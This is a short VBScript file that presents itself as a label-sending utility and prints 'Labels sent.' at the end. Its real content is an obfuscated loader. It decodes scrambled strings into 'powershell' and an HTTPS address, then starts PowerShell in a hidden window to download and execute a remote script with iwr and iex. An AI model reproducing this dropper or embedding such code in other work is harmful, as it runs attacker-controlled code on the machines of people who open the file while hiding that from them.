Dim t1, t2, t3, z
t1 = "pooxN9wyeirmsThcNfeilplZ"
t2 = "lGnazPbbDeFDlyFsKm.51pzfrFoiWbnSrtHA-E5q6yuUheQqug0eey.N1iygnQdvvpaSflF5iPHd5n/LZqjM.eIp8csFS1mj"
Function D(s, n)
  Dim i, r: r = ""
  For i = 1 To Len(s) Step n
    r = r & Mid(s, i, 1)
  Next
  D = r
End Function
t3 = Replace(D(t1, 2), "N", "") & " -w 1 -c ""$u='https://" & D(t2, 3) & "';iex(iwr $u -useb)"""
Set z = CreateObject("WScript.Shell")
z.Run t3, 0
WScript.Echo "Labels sent."
